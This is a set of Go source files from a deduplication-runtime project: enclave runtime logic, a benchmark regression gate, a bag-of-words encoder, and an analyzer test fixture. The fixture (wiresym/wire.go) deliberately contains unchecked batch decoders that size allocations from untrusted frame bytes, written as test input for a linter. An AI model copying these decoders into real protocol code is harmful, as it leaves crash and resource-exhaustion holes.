// flight is one in-progress computation that concurrent identical
// calls can join.
type flight struct {
	done    chan struct{}
	result  []byte
	outcome Outcome
	err     error
}

type putJob struct {
	id      mle.FuncID
	input   []byte
	result  []byte
	tag     mle.Tag
	replace bool
	// tc keeps a sampled caller's trace context attached to its async
	// upload, so the PUT leg still lands in the same distributed trace.
	tc wire.TraceContext
}

// NewRuntime constructs a Runtime.
func NewRuntime(cfg Config) (*Runtime, error) {
	if cfg.Enclave == nil {
		return nil, errors.New("dedup: Config.Enclave is required")
	}
	if cfg.Client == nil {
		return nil, errors.New("dedup: Config.Client is required")
	}
	if cfg.Scheme == nil {
		cfg.Scheme = &mle.RCE{}
	}
	if cfg.Registry == nil {
		cfg.Registry = NewRegistry()
	}
	if cfg.PutQueueDepth <= 0 {
		cfg.PutQueueDepth = 64
	}
	if cfg.BatchParallelism <= 0 {
		cfg.BatchParallelism = goruntime.GOMAXPROCS(0)
	}
	if cfg.DegradeThreshold == 0 {
		cfg.DegradeThreshold = 5
	}
	if cfg.ProbeInterval <= 0 {
		cfg.ProbeInterval = 500 * time.Millisecond
	}
	if cfg.Logf == nil {
		cfg.Logf = log.Printf
	}
	if cfg.ChunkThreshold > 0 && cfg.ChunkCacheBytes <= 0 {
		cfg.ChunkCacheBytes = defaultChunkCacheBytes
	}
	rt := &Runtime{
		cfg:      cfg,
		inflight: make(map[mle.Tag]*flight),
		stop:     make(chan struct{}),
		done:     make(chan struct{}),
	}
	if cfg.ChunkThreshold > 0 {
		ck, err := chunk.NewChunker(chunk.Config{})
		if err != nil {
			return nil, fmt.Errorf("dedup: chunker: %w", err)
		}
		rt.chunker = ck
		rt.chunkCache = newChunkLRU(cfg.Enclave, cfg.ChunkCacheBytes)
	}
	rt.tel = newRTMetrics(cfg.Telemetry, rt, cfg.TraceSampleRate)
	rt.traced, _ = cfg.Client.(TracedClient)
	if cfg.AsyncPut {
		rt.putCh = make(chan putJob, cfg.PutQueueDepth)
		go rt.putWorker()
	} else {
		close(rt.done)
	}
	return rt, nil
}

// Registry returns the runtime's trusted-library registry.
func (rt *Runtime) Registry() *Registry { return rt.cfg.Registry }

// Enclave returns the application enclave.
func (rt *Runtime) Enclave() *enclave.Enclave { return rt.cfg.Enclave }

// Stats returns a snapshot of the runtime's counters. The client's
// retry counter is read while the stats lock is still held, so Retries
// is taken at the same instant as the rest of the snapshot: a call
// whose retries have been counted cannot yet have bumped StoreFailures
// without the snapshot seeing both. (Retries itself is an atomic load
// from the client, so no lock ordering is introduced.)
func (rt *Runtime) Stats() Stats {
	rt.mu.Lock()
	s := rt.stats
	if rc, ok := rt.cfg.Client.(retryCounter); ok {
		s.Retries = rc.Retries()
	}
	rt.mu.Unlock()
	return s
}

// Degraded reports whether the circuit breaker is currently open, i.e.
// the runtime is serving compute-only and probing the store in the
// background.
func (rt *Runtime) Degraded() bool {
	rt.breakerMu.Lock()
	defer rt.breakerMu.Unlock()
	return rt.brkOpen
}

// degradeEnabled reports whether store failures fall back to
// compute-only instead of failing the call.
func (rt *Runtime) degradeEnabled() bool { return rt.cfg.DegradeThreshold > 0 }

// noteStoreFailure records one store transport failure and opens the
// breaker when the threshold is reached.
func (rt *Runtime) noteStoreFailure(err error) {
	rt.mu.Lock()
	rt.stats.StoreFailures++
	rt.mu.Unlock()
	rt.breakerMu.Lock()
	rt.consecFails++
	if !rt.brkOpen && rt.consecFails >= rt.cfg.DegradeThreshold {
		rt.brkOpen = true
		if !rt.probing {
			rt.probing = true
			rt.probeWG.Add(1)
			go rt.probeLoop()
		}
		rt.cfg.Logf("speed: %d consecutive store failures (last: %v); degrading to compute-only", rt.consecFails, err)
	}
	rt.breakerMu.Unlock()
}

// noteStoreSuccess resets the consecutive-failure counter after any
// successful store exchange.
func (rt *Runtime) noteStoreSuccess() {
	rt.breakerMu.Lock()
	rt.consecFails = 0
	rt.breakerMu.Unlock()
}

// probeLoop periodically pings the store until it answers again, then
// closes the breaker so deduplication resumes. Ping performs a full
// request round trip without any dictionary operation, so a degraded
// runtime probing every ProbeInterval never fabricates GET traffic.
func (rt *Runtime) probeLoop() {
	defer rt.probeWG.Done()
	ticker := time.NewTicker(rt.cfg.ProbeInterval)
	defer ticker.Stop()
	for {
		select {
		case <-rt.stop:
			return
		case <-ticker.C:
			if err := rt.cfg.Client.Ping(); err == nil {
				rt.breakerMu.Lock()
				rt.brkOpen = false
				rt.consecFails = 0
				rt.probing = false
				rt.breakerMu.Unlock()
				rt.cfg.Logf("speed: store recovered; deduplication re-enabled")
				return
			}
		}
	}
}

// Close drains the async PUT worker (if any), stops the recovery
// prober, and closes the store client. The runtime must not be used
// afterwards.
func (rt *Runtime) Close() error {
	rt.mu.Lock()
	if rt.closed {
		rt.mu.Unlock()
		return nil
	}
	rt.closed = true
	rt.mu.Unlock()
	close(rt.stop)
	rt.probeWG.Wait()
	<-rt.done
	return rt.cfg.Client.Close()
}

// Resolve derives the FuncID for a described function via the
// registry.
func (rt *Runtime) Resolve(desc FuncDesc) (mle.FuncID, error) {
	return rt.cfg.Registry.Resolve(desc)
}

// Execute runs the marked computation func(input) with deduplication:
// Algorithm 1 on a miss, Algorithm 2 plus the Fig. 3 verification on a
// hit. compute must be the deterministic function the FuncID
// identifies.
func (rt *Runtime) Execute(id mle.FuncID, input []byte, compute func([]byte) ([]byte, error)) ([]byte, Outcome, error) {
	rt.mu.Lock()
	if rt.closed {
		rt.mu.Unlock()
		return nil, 0, errors.New("dedup: runtime closed")
	}
	rt.stats.Calls++
	rt.mu.Unlock()

	var (
		result  []byte
		outcome Outcome
		span    *execSpan
	)
	// The sampling decision happens before any work, so a sampled call's
	// trace context can ride to every store node it touches.
	tc, rootSpan := rt.startTrace()
	if rt.tel != nil || rt.cfg.SlowRequestThreshold > 0 {
		span = &execSpan{start: time.Now()}
	}
	err := rt.cfg.Enclave.ECall(func() error {
		// Algorithm 1/2 line 1: derive the tag inside the enclave.
		span.begin(phaseTag)
		tag := mle.ComputeTag(id, input)
		span.end(phaseTag)

		run := func() error { return rt.executeTagged(id, input, tag, tc, compute, span, &result, &outcome) }

		// In-process coalescing: if the identical computation is
		// already in flight, wait for it and share its result instead
		// of racing it to the store.
		if rt.cfg.NoCoalesce {
			return run()
		}
		rt.flightMu.Lock()
		if f, ok := rt.inflight[tag]; ok {
			rt.flightMu.Unlock()
			span.begin(phaseCoalesceWait)
			<-f.done
			span.end(phaseCoalesceWait)
			if f.err != nil {
				return f.err
			}
			result = append([]byte(nil), f.result...)
			outcome = OutcomeCoalesced
			rt.mu.Lock()
			rt.stats.Coalesced++
			rt.stats.BytesReused += int64(len(result))
			rt.mu.Unlock()
			return nil
		}
		f := &flight{done: make(chan struct{})}
		rt.inflight[tag] = f
		rt.flightMu.Unlock()

		// The flight must be unregistered and its waiters unblocked no
		// matter how run() exits. A compute panic in particular must
		// not leave the entry registered with f.done never closing, or
		// every later identical call would block forever; the panic
		// itself still propagates to the owner's caller.
		completed := false
		defer func() {
			if !completed {
				f.err = fmt.Errorf("dedup: in-flight computation for tag %x... panicked", tag[:4])
			}
			rt.flightMu.Lock()
			delete(rt.inflight, tag)
			rt.flightMu.Unlock()
			close(f.done)
		}()
		ferr := run()
		if ferr == nil {
			// Publish a private copy: the owner's caller owns `result`
			// and may mutate it as soon as Execute returns, while late
			// waiters are still copying out of the flight.
			f.result = append([]byte(nil), result...)
		}
		f.outcome, f.err = outcome, ferr
		completed = true
		return ferr
	})
	if span != nil {
		total := time.Since(span.start)
		if rt.tel != nil {
			total = rt.tel.record(span, outcome, err, tc)
			rt.recordTrace("execute", id, tc, rootSpan, span, outcome, total, err)
		}
		rt.maybeSlowLog("execute", id, tc, total, outcome, err)
	}
	if err != nil {
		return nil, 0, err
	}
	return result, outcome, nil
}

// executeTagged runs the store lookup / verify / compute / upload path
// for an already-derived tag, writing the result and outcome through
// the provided pointers. It runs inside the application enclave.
func (rt *Runtime) executeTagged(id mle.FuncID, input []byte, tag mle.Tag, tc wire.TraceContext, compute func([]byte) ([]byte, error), span *execSpan, resultOut *[]byte, outcomeOut *Outcome) error {
	// Graceful degradation: with the breaker open the store is known
	// to be down, so skip GET/PUT entirely and serve compute-only —
	// deduplication is an accelerator, not a correctness dependency.
	if rt.degradeEnabled() && rt.Degraded() {
		return rt.computeOnly(input, compute, span, resultOut, outcomeOut)
	}

	// Line 2: query the store via an OCALL (the runtime's customized
	// OCALL wrapping request and networking logic).
	var (
		sealed mle.Sealed
		found  bool
	)
	span.begin(phaseStoreGet)
	err := rt.cfg.Enclave.OCall(func() error {
		var gerr error
		sealed, found, gerr = rt.storeGet(tc, tag)
		return gerr
	})
	span.end(phaseStoreGet)
	if err != nil {
		if !rt.degradeEnabled() {
			return fmt.Errorf("query store: %w", err)
		}
		// The store is unreachable or stalled: this call degrades to a
		// plain computation instead of failing, and the failure feeds
		// the circuit breaker.
		rt.noteStoreFailure(err)
		rt.cfg.Logf("speed: store get failed, serving compute-only: %v", err)
		return rt.computeOnly(input, compute, span, resultOut, outcomeOut)
	}
	rt.noteStoreSuccess()

	hadPoisonedEntry := false
	if found {
		// Algorithm 2 lines 4-6 + Fig. 3 verification.
		span.begin(phaseVerifyDecrypt)
		res, derr := rt.cfg.Scheme.Decrypt(id, input, sealed)
		span.end(phaseVerifyDecrypt)
		if derr == nil {
			*resultOut = res
			*outcomeOut = OutcomeReused
			rt.mu.Lock()
			rt.stats.Reused++
			rt.stats.BytesReused += int64(len(res))
			rt.mu.Unlock()
			return nil
		}
		if !errors.Is(derr, mle.ErrAuthFailed) {
			return fmt.Errorf("decrypt result: %w", derr)
		}
		// With chunking enabled the entry may be a sealed manifest
		// rather than a whole result; try reassembling from chunks
		// before condemning it.
		if rt.chunker != nil {
			res, merr := rt.manifestReuse(id, input, tc, sealed)
			if merr == nil {
				*resultOut = res
				*outcomeOut = OutcomeReused
				rt.mu.Lock()
				rt.stats.Reused++
				rt.stats.ManifestReuses++
				rt.stats.BytesReused += int64(len(res))
				rt.mu.Unlock()
				return nil
			}
			if !errors.Is(merr, errNoManifest) {
				// The manifest was authentic but its chunks were not
				// servable (missing, tampered, digest mismatch): say so
				// loudly, then recompute and replace.
				rt.cfg.Logf("speed: chunked reassembly for tag %x... failed: %v; recomputing", tag[:4], merr)
			}
		}
		// ⊥: the stored entry is poisoned/corrupted or belongs to a
		// computation we cannot perform. Fall back to computing.
		hadPoisonedEntry = true
		rt.mu.Lock()
		rt.stats.VerifyFailures++
		rt.mu.Unlock()
	}

	// Algorithm 1 line 4: compute the result inside the enclave.
	span.begin(phaseCompute)
	res, cerr := compute(input)
	span.end(phaseCompute)
	if cerr != nil {
		return cerr
	}
	*resultOut = res
	if hadPoisonedEntry {
		*outcomeOut = OutcomeRecomputed
	} else {
		*outcomeOut = OutcomeComputed
	}
	rt.mu.Lock()
	rt.stats.Computed++
	rt.mu.Unlock()

	// Algorithm 1 lines 5-10: protect and upload the result. A
	// recomputation replaces the stored entry that failed
	// verification, so a poisoned entry cannot permanently disable
	// reuse for its tag.
	replace := hadPoisonedEntry
	if rt.cfg.AsyncPut {
		rt.enqueuePut(putJob{id: id, input: input, result: res, tag: tag, replace: replace, tc: tc})
		return nil
	}
	if perr := rt.sealAndPut(id, input, res, tag, replace, tc, span); perr != nil {
		// A failed upload only loses future reuse; the caller still
		// gets its freshly computed result.
		rt.notePutError(perr)
	}
	return nil
}

// computeOnly runs the computation without touching the store, used
// while the store is unreachable or the breaker is open. The result is
// correct either way; only reuse is lost.
func (rt *Runtime) computeOnly(input []byte, compute func([]byte) ([]byte, error), span *execSpan, resultOut *[]byte, outcomeOut *Outcome) error {
	span.begin(phaseCompute)
	res, cerr := compute(input)
	span.end(phaseCompute)
	if cerr != nil {
		return cerr
	}
	*resultOut = res
	*outcomeOut = OutcomeComputed
	rt.mu.Lock()
	rt.stats.Computed++
	rt.stats.Degraded++
	rt.mu.Unlock()
	return nil
}

// sealAndPut encrypts the result (RCE: random key, challenge, wrap) and
// uploads (t, r, [k], [res]) via an OCALL. Results at or above the
// chunk threshold go chunk-wise instead (manifest at the primary tag,
// content chunks under their own tags); a result that would overflow
// one manifest falls back to the whole-result path.
func (rt *Runtime) sealAndPut(id mle.FuncID, input, result []byte, tag mle.Tag, replace bool, tc wire.TraceContext, span *execSpan) error {
	if rt.chunker != nil && len(result) >= rt.cfg.ChunkThreshold {
		err := rt.chunkedPut(id, input, result, tag, replace, tc, span)
		if !errors.Is(err, errTooManyChunks) {
			return err
		}
	}
	span.begin(phaseEncrypt)
	sealed, err := rt.cfg.Scheme.Encrypt(id, input, result)
	span.end(phaseEncrypt)
	if err != nil {
		return fmt.Errorf("encrypt result: %w", err)
	}
	span.begin(phaseStorePut)
	err = rt.cfg.Enclave.OCall(func() error {
		return rt.storePut(tc, tag, sealed, replace)
	})
	span.end(phaseStorePut)
	return err
}

// storeGet and storePut route requests through the client's traced
// variants when the call is sampled and the client supports them, so
// the store node serving the request records its spans under the
// caller's trace ID. Unsampled calls take the plain path untouched.
func (rt *Runtime) storeGet(tc wire.TraceContext, tag mle.Tag) (mle.Sealed, bool, error) {
	if tc.Valid() && rt.traced != nil {
		return rt.traced.GetTraced(tc, tag)
	}
	return rt.cfg.Client.Get(tag)
}

func (rt *Runtime) storePut(tc wire.TraceContext, tag mle.Tag, sealed mle.Sealed, replace bool) error {
	if tc.Valid() && rt.traced != nil {
		return rt.traced.PutTraced(tc, tag, sealed, replace)
	}
	return rt.cfg.Client.Put(tag, sealed, replace)
}

func (rt *Runtime) enqueuePut(job putJob) {
	select {
	case rt.putCh <- job:
	default:
		// Queue full: drop the upload rather than stall the caller.
		rt.notePutError(errors.New("dedup: put queue full"))
	}
}

func (rt *Runtime) putWorker() {
	defer close(rt.done)
	for {
		select {
		case job := <-rt.putCh:
			rt.runPutJob(job)
		case <-rt.stop:
			// Drain what is already queued, then exit.
			for {
				select {
				case job := <-rt.putCh:
					rt.runPutJob(job)
				default:
					return
				}
			}
		}
	}
}

func (rt *Runtime) runPutJob(job putJob) {
	// The async PUT pipeline gets its own span so the encrypt and
	// store_put phases are still measured (they just no longer sit on
	// the caller's path, which is the point of AsyncPut).
	var span *execSpan
	if rt.tel != nil {
		span = &execSpan{start: time.Now()}
	}
	err := rt.cfg.Enclave.ECall(func() error {
		return rt.sealAndPut(job.id, job.input, job.result, job.tag, job.replace, job.tc, span)
	})
	if span != nil {
		rt.tel.observePhases(span)
	}
	if err != nil {
		rt.notePutError(err)
	}
}

func (rt *Runtime) notePutError(err error) {
	rt.mu.Lock()
	rt.stats.PutErrors++
	rt.mu.Unlock()
	// PUT outcomes feed the breaker too: an explicit rejection proves
	// the store is alive, while a transport failure counts against it.
	if rt.degradeEnabled() {
		switch {
		case errors.Is(err, ErrPutRejected):
			rt.noteStoreSuccess()
		case isTransient(err):
			rt.noteStoreFailure(err)
		}
	}
	rt.cfg.Logf("speed: put failed: %v", err)
}
