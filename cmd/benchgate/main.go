// Command benchgate is a dependency-free benchstat-style regression
// gate: it compares a fresh `go test -bench -benchmem` run against a
// checked-in baseline and fails (exit 1) when a benchmark regressed by
// more than the configured threshold with statistical significance.
//
//	go test -run '^$' -bench 'Hot|ChannelRoundTrip' -benchmem -count 6 ./internal/wire ./internal/mle > new.txt
//	benchgate -baseline bench/baseline.txt -new new.txt
//
// Comparison rules, chosen so a baseline recorded on one machine stays
// meaningful on another:
//
//   - allocs/op is machine-independent, so it is held near-exactly: any
//     mean increase beyond +0.5 allocs is a regression. This is the
//     hard gate for the zero-allocation hot path.
//   - B/op is near-machine-independent; a small relative plus absolute
//     slack absorbs size-class jitter.
//   - ns/op varies across hardware, so only a large relative slowdown
//     (default +30%, -time-threshold or SPEED_BENCH_TIME_THRESHOLD to
//     override) that is also statistically significant (Welch-style
//     2-sigma on the run-to-run spread, which needs -count >= 2) fails
//     the gate.
package main

import (
	"bufio"
	"flag"
	"fmt"
	"io"
	"math"
	"os"
	"sort"
	"strconv"
	"strings"
)

func main() {
	var (
		baselinePath  = flag.String("baseline", "bench/baseline.txt", "checked-in baseline benchmark output")
		newPath       = flag.String("new", "-", "fresh benchmark output ('-' for stdin)")
		timeThreshold = flag.Float64("time-threshold", defaultTimeThreshold(), "relative ns/op increase tolerated before failing (0.30 = +30%)")
	)
	flag.Parse()

	baseline, err := parseFile(*baselinePath)
	if err != nil {
		fmt.Fprintf(os.Stderr, "benchgate: %v\n", err)
		os.Exit(2)
	}
	fresh, err := parseFile(*newPath)
	if err != nil {
		fmt.Fprintf(os.Stderr, "benchgate: %v\n", err)
		os.Exit(2)
	}

	report, failed := compare(baseline, fresh, *timeThreshold)
	fmt.Print(report)
	if failed {
		fmt.Fprintln(os.Stderr, "benchgate: FAIL — benchmark regression against baseline")
		os.Exit(1)
	}
	fmt.Println("benchgate: PASS")
}

func defaultTimeThreshold() float64 {
	if s := os.Getenv("SPEED_BENCH_TIME_THRESHOLD"); s != "" {
		if v, err := strconv.ParseFloat(s, 64); err == nil && v > 0 {
			return v
		}
	}
	return 0.30
}

// sample is the per-metric observations of one benchmark across -count
// repetitions.
type sample struct {
	nsPerOp     []float64
	bytesPerOp  []float64
	allocsPerOp []float64
}

// parseFile reads `go test -bench` output: one "Benchmark..." line per
// repetition, interleaved with pkg headers and PASS/ok lines that are
// ignored. Results from multiple packages may share a file; benchmark
// names are assumed unique across them (true here: Hot* benchmarks are
// per-package named).
func parseFile(path string) (map[string]*sample, error) {
	var r io.Reader
	if path == "-" {
		r = os.Stdin
	} else {
		f, err := os.Open(path)
		if err != nil {
			return nil, err
		}
		defer f.Close()
		r = f
	}
	out := make(map[string]*sample)
	sc := bufio.NewScanner(r)
	sc.Buffer(make([]byte, 1<<20), 1<<20)
	for sc.Scan() {
		name, ns, bytesOp, allocs, ok := parseLine(sc.Text())
		if !ok {
			continue
		}
		s := out[name]
		if s == nil {
			s = &sample{}
			out[name] = s
		}
		s.nsPerOp = append(s.nsPerOp, ns)
		if !math.IsNaN(bytesOp) {
			s.bytesPerOp = append(s.bytesPerOp, bytesOp)
		}
		if !math.IsNaN(allocs) {
			s.allocsPerOp = append(s.allocsPerOp, allocs)
		}
	}
	if err := sc.Err(); err != nil {
		return nil, err
	}
	if len(out) == 0 {
		return nil, fmt.Errorf("%s: no benchmark lines found", path)
	}
	return out, nil
}

// parseLine extracts (name, ns/op, B/op, allocs/op) from one benchmark
// output line. B/op and allocs/op are NaN when -benchmem was off.
func parseLine(line string) (name string, ns, bytesOp, allocs float64, ok bool) {
	if !strings.HasPrefix(line, "Benchmark") {
		return "", 0, 0, 0, false
	}
	fields := strings.Fields(line)
	if len(fields) < 4 {
		return "", 0, 0, 0, false
	}
	name = fields[0]
	// Strip the -GOMAXPROCS suffix so runs from different machines
	// compare by benchmark identity.
	if i := strings.LastIndex(name, "-"); i > 0 {
		if _, err := strconv.Atoi(name[i+1:]); err == nil {
			name = name[:i]
		}
	}
	ns, bytesOp, allocs = math.NaN(), math.NaN(), math.NaN()
	// fields[1] is the iteration count; the rest are (value, unit) pairs.
	for i := 2; i+1 < len(fields); i += 2 {
		v, err := strconv.ParseFloat(fields[i], 64)
		if err != nil {
			return "", 0, 0, 0, false
		}
		switch fields[i+1] {
		case "ns/op":
			ns = v
		case "B/op":
			bytesOp = v
		case "allocs/op":
			allocs = v
		}
	}
	if math.IsNaN(ns) {
		return "", 0, 0, 0, false
	}
	return name, ns, bytesOp, allocs, true
}

func mean(xs []float64) float64 {
	if len(xs) == 0 {
		return math.NaN()
	}
	var sum float64
	for _, x := range xs {
		sum += x
	}
	return sum / float64(len(xs))
}

func variance(xs []float64) float64 {
	if len(xs) < 2 {
		return 0
	}
	m := mean(xs)
	var sum float64
	for _, x := range xs {
		d := x - m
		sum += d * d
	}
	return sum / float64(len(xs)-1)
}

// significant reports whether the difference of means clears a
// Welch-style two-sigma bar on the combined run-to-run spread. With a
// single repetition per side there is no spread estimate, so any
// difference counts as significant (the thresholds still apply).
func significant(old, new []float64) bool {
	if len(old) < 2 || len(new) < 2 {
		return true
	}
	se := math.Sqrt(variance(old)/float64(len(old)) + variance(new)/float64(len(new)))
	if se == 0 {
		return mean(new) != mean(old)
	}
	return math.Abs(mean(new)-mean(old)) > 2*se
}

// verdict is one benchmark's comparison outcome.
type verdict struct {
	name   string
	reason string // empty = ok
	oldNs  float64
	newNs  float64
}

// compare evaluates every benchmark present in both runs and renders a
// report. Benchmarks missing from either side are listed but do not
// fail the gate (a renamed benchmark needs a baseline refresh, not a
// red build on unrelated changes — the alloc assertions in the test
// suite still guard the contract).
func compare(baseline, fresh map[string]*sample, timeThreshold float64) (report string, failed bool) {
	var names []string
	for name := range baseline {
		names = append(names, name)
	}
	sort.Strings(names)

	var b strings.Builder
	fmt.Fprintf(&b, "%-40s %14s %14s %9s  %s\n", "benchmark", "old ns/op", "new ns/op", "delta", "verdict")
	for _, name := range names {
		old, ok := baseline[name]
		nw := fresh[name]
		if !ok || nw == nil {
			fmt.Fprintf(&b, "%-40s %14s %14s %9s  %s\n", name, "-", "-", "-", "missing from new run (refresh baseline?)")
			continue
		}
		v := judge(name, old, nw, timeThreshold)
		delta := (v.newNs - v.oldNs) / v.oldNs * 100
		status := "ok"
		if v.reason != "" {
			status = "REGRESSION: " + v.reason
			failed = true
		}
		fmt.Fprintf(&b, "%-40s %14.1f %14.1f %+8.1f%%  %s\n", name, v.oldNs, v.newNs, delta, status)
	}
	for name := range fresh {
		if _, ok := baseline[name]; !ok {
			fmt.Fprintf(&b, "%-40s %14s %14s %9s  %s\n", name, "-", "-", "-", "new benchmark (not in baseline)")
		}
	}
	return b.String(), failed
}

// judge applies the per-metric rules to one benchmark.
func judge(name string, old, nw *sample, timeThreshold float64) verdict {
	v := verdict{name: name, oldNs: mean(old.nsPerOp), newNs: mean(nw.nsPerOp)}

	// allocs/op: the hard, machine-independent gate.
	if len(old.allocsPerOp) > 0 && len(nw.allocsPerOp) > 0 {
		oldA, newA := mean(old.allocsPerOp), mean(nw.allocsPerOp)
		if newA > oldA+0.5 {
			v.reason = fmt.Sprintf("allocs/op %.1f -> %.1f", oldA, newA)
			return v
		}
	}

	// B/op: small relative + absolute slack for size-class jitter.
	if len(old.bytesPerOp) > 0 && len(nw.bytesPerOp) > 0 {
		oldB, newB := mean(old.bytesPerOp), mean(nw.bytesPerOp)
		if newB > oldB*1.10+64 {
			v.reason = fmt.Sprintf("B/op %.0f -> %.0f", oldB, newB)
			return v
		}
	}

	// ns/op: relative threshold plus significance.
	if v.newNs > v.oldNs*(1+timeThreshold) && significant(old.nsPerOp, nw.nsPerOp) {
		v.reason = fmt.Sprintf("ns/op %.1f -> %.1f (>%+.0f%%)", v.oldNs, v.newNs, timeThreshold*100)
		return v
	}
	return v
}
