package mapreduce

import (
	"bytes"
	"encoding/binary"
	"errors"
	"io"
	"sort"
	"strings"

	"speed/internal/chunk"
)

// The bag-of-words computation of Case 4: tokenize documents and count
// word occurrences with MapReduce, exactly the bow_mapper customization
// of the paper's Mapper function.

// Tokenize splits text into lowercase words: maximal runs of ASCII
// letters and digits.
func Tokenize(text string) []string {
	var words []string
	start := -1
	flush := func(end int) {
		if start >= 0 {
			words = append(words, strings.ToLower(text[start:end]))
			start = -1
		}
	}
	for i := 0; i < len(text); i++ {
		c := text[i]
		isWord := c >= 'a' && c <= 'z' || c >= 'A' && c <= 'Z' || c >= '0' && c <= '9'
		if isWord {
			if start < 0 {
				start = i
			}
		} else {
			flush(i)
		}
	}
	flush(len(text))
	return words
}

// BagOfWords counts word occurrences across documents using the
// MapReduce engine with a sum combiner.
func BagOfWords(docs []string, workers int) (map[string]int, error) {
	return Run(
		docs,
		func(doc string, emit func(string, int)) error {
			for _, w := range Tokenize(doc) {
				emit(w, 1)
			}
			return nil
		},
		func(word string, counts []int) (int, error) {
			total := 0
			for _, c := range counts {
				total += c
			}
			return total, nil
		},
		Config[int]{Workers: workers, Combine: func(a, b int) int { return a + b }},
	)
}

// ErrMalformedCounts is returned when decoding invalid count bytes.
var ErrMalformedCounts = errors.New("mapreduce: malformed counts encoding")

// EncodeCounts serialises a word-count map deterministically (words
// sorted ascending), the deduplicable result representation.
func EncodeCounts(counts map[string]int) []byte {
	var buf bytes.Buffer
	buf.Grow(4 + 16*len(counts))
	_ = EncodeCountsTo(&buf, counts) // a Buffer write cannot fail
	return buf.Bytes()
}

// EncodeCountsTo streams EncodeCounts' exact byte form to w — one
// bounded write per word instead of one materialized buffer, so a large
// vocabulary can be piped straight into a chunk.Stream or a
// compress.ChunkingWriter and chunked incrementally.
func EncodeCountsTo(w io.Writer, counts map[string]int) error {
	words := make([]string, 0, len(counts))
	for word := range counts {
		words = append(words, word)
	}
	sort.Strings(words)
	var scratch [12]byte
	binary.BigEndian.PutUint32(scratch[:4], uint32(len(words)))
	if _, err := w.Write(scratch[:4]); err != nil {
		return err
	}
	for _, word := range words {
		binary.BigEndian.PutUint32(scratch[:4], uint32(len(word)))
		if _, err := w.Write(scratch[:4]); err != nil {
			return err
		}
		if _, err := io.WriteString(w, word); err != nil {
			return err
		}
		binary.BigEndian.PutUint64(scratch[4:12], uint64(counts[word]))
		if _, err := w.Write(scratch[4:12]); err != nil {
			return err
		}
	}
	return nil
}

// ChunkCounts streams the deterministic encoding through a
// content-defined chunker, invoking emit per chunk as boundaries are
// found. The chunks concatenate to exactly EncodeCounts(counts), so two
// runtimes encoding the same counts derive identical chunk tags.
func ChunkCounts(c *chunk.Chunker, counts map[string]int, emit func(chunk []byte) error) error {
	cs := c.NewStream(emit)
	if err := EncodeCountsTo(cs, counts); err != nil {
		return err
	}
	return cs.Close()
}

// DecodeCounts parses the form produced by EncodeCounts.
func DecodeCounts(b []byte) (map[string]int, error) {
	if len(b) < 4 {
		return nil, ErrMalformedCounts
	}
	n := int(binary.BigEndian.Uint32(b))
	b = b[4:]
	out := make(map[string]int, n)
	for i := 0; i < n; i++ {
		if len(b) < 4 {
			return nil, ErrMalformedCounts
		}
		wl := int(binary.BigEndian.Uint32(b))
		b = b[4:]
		if wl < 0 || len(b) < wl+8 {
			return nil, ErrMalformedCounts
		}
		word := string(b[:wl])
		b = b[wl:]
		out[word] = int(binary.BigEndian.Uint64(b))
		b = b[8:]
	}
	if len(b) != 0 {
		return nil, ErrMalformedCounts
	}
	return out, nil
}
