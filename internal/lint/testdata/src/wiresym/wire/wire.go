// Package wire exercises the wiresym analyzer: undispatched kinds,
// missing decoders, crossed dispatch, unbounded batch decoding and
// envelope drift.
package wire

type Message interface{ Kind() byte }

const (
	KindPut = 1
	KindGet = 2
	// KindOrphan is declared but Unmarshal never dispatches it.
	KindOrphan = 3 // want `message kind KindOrphan has no dispatch case in Unmarshal`
	KindLost   = 4 // want `message kind KindLost has no dispatch case in Unmarshal`
)

const MaxBatchItems = 16

type Put struct{}

func (Put) Kind() byte                    { return KindPut }
func (p Put) appendTo(b []byte) []byte    { return b }
func decodePut(b []byte) (Message, error) { return Put{}, nil }

type Get struct{}

// Unmarshal routes KindGet to decodePut below: crossed dispatch.
func (Get) Kind() byte { return KindGet } // want `Unmarshal dispatches KindGet to decodePut`

func (g Get) appendTo(b []byte) []byte    { return b }
func decodeGet(b []byte) (Message, error) { return Get{}, nil }

type Lost struct{}

func (Lost) Kind() byte { return KindLost }

// Lost can be marshalled but never unmarshalled.
func (l Lost) appendTo(b []byte) []byte { return b } // want `type Lost has an appendTo marshal method but no decodeLost counterpart`

func Unmarshal(b []byte) (Message, error) {
	if len(b) == 0 {
		return nil, nil
	}
	switch b[0] {
	case KindPut:
		return decodePut(b)
	case KindGet:
		return decodePut(b)
	case KindHasBatchReq:
		return decodeHasBatchRequest(b)
	case KindHasBatchResp:
		return decodeHasBatchResponse(b)
	}
	return nil, nil
}

// HAS_BATCH-style existence probe: a count-prefixed request/response
// pair. The request decoder validates through readCount (clean); the
// response decoder sizes its slice straight from the frame.
const (
	KindHasBatchReq  = 5
	KindHasBatchResp = 6
)

type HasBatchRequest struct{}

func (HasBatchRequest) Kind() byte                 { return KindHasBatchReq }
func (r HasBatchRequest) appendTo(b []byte) []byte { return b }

func decodeHasBatchRequest(b []byte) (Message, error) {
	n, rest, err := readCount(b)
	if err != nil {
		return nil, err
	}
	tags := make([][]byte, 0, n)
	_, _ = tags, rest
	return HasBatchRequest{}, nil
}

type HasBatchResponse struct{}

func (HasBatchResponse) Kind() byte                 { return KindHasBatchResp }
func (r HasBatchResponse) appendTo(b []byte) []byte { return b }

func decodeHasBatchResponse(b []byte) (Message, error) { // want `decodeHasBatchResponse decodes a batch without readCount/MaxBatchItems validation`
	out := make([]bool, int(b[0]))
	_ = out
	return HasBatchResponse{}, nil
}

// decodeBatch expands a count-prefixed frame without consulting
// readCount or MaxBatchItems.
func decodeBatch(b []byte) (Message, error) { // want `decodeBatch decodes a batch without readCount/MaxBatchItems validation`
	out := make([]Message, int(b[0]))
	_ = out
	return Put{}, nil
}

// readCount exists but never checks the cap.
func readCount(b []byte) (int, []byte, error) { // want `readCount does not enforce MaxBatchItems`
	return int(b[0]), b[1:], nil
}

const envelopeHeaderLen = 8

func MarshalEnvelope(id uint64, m Message) []byte {
	return make([]byte, envelopeHeaderLen)
}

// UnmarshalEnvelope duplicates the header size as a literal instead of
// sharing envelopeHeaderLen.
func UnmarshalEnvelope(b []byte) (uint64, Message, error) { // want `MarshalEnvelope and UnmarshalEnvelope do not share a header-size constant`
	if len(b) < 8 {
		return 0, nil, nil
	}
	return 0, nil, nil
}

const (
	ProtocolV1 = 1
	ProtocolV2 = 2
	// MaxProtocol lags the newest protocol constant.
	MaxProtocol = ProtocolV1 // want `MaxProtocol is 1 but the highest declared protocol version is 2`
)
