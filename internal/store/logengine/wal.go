package logengine

import (
	"encoding/binary"
	"fmt"
